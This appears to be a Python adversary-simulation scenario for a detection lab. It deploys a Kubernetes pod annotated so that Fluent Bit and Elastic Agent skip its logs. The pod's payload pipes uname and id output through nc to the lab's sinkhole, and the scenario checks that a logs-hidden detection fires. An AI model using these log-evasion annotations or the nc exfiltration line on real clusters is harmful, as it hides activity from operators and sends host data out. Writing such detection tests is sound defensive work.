"""A pod annotated so that the cluster's log shippers skip it."""

from __future__ import annotations

import secrets

from lab import Lab, Logging, WorkloadSpec
from scenarios.api import Expectation, Kind, Scenario


class ShipperOptOut(Scenario):
    id = "kubernetes.logging.shipper-opt-out"
    title = "Pod opts out of log collection through the annotations log shippers honour"
    kind = Kind.ADVERSARY
    techniques = ("T1562.001", "T1610")
    backends = ("kubernetes",)
    expect = Expectation(fires=("stowaway.k8s.logs-hidden",), within_s=20, may_fire={
        "stowaway.net.process-egress-not-allowlisted": "Its pod really sends to the sinkhole on the lab "
                                                       "internet, outside the egress allowlist, which the "
                                                       "node sensor sees from the process.",
    })
    twin = "kubernetes.logging.dev-namespace-minimal"
    tags = ("kubernetes", "logging", "defense-evasion")
    description = (
        "Creates a pod in the default namespace carrying fluentbit.io/exclude: \"true\" and "
        "co.elastic.logs/enabled: \"false\", the annotations Fluent Bit and Elastic Agent honour to "
        "skip a pod's logs. Its payload prints host details and sends them to the sinkhole; the "
        "scenario checks the sinkhole got them."
    )

    def detonate(self, lab: Lab) -> None:
        token = secrets.token_hex(6)
        payload = (f"for i in 1 2 3; do {{ echo {token}; uname -a; id; }} | tee /dev/stderr "
                   f"| nc -w 2 -q 1 {lab.sinkhole.address} 4444; sleep 2; done; sleep 60")
        lab.action("create a pod annotated to opt out of log shipping")
        lab.deploy(WorkloadSpec(role="report", logging=Logging(driver="none"), command=("sh", "-c", payload)))
        lab.wait_for(lambda: any(token in r.get("head", "") for r in lab.sinkhole_records()), timeout=30,
                     what="the payload's data to reach the sinkhole")
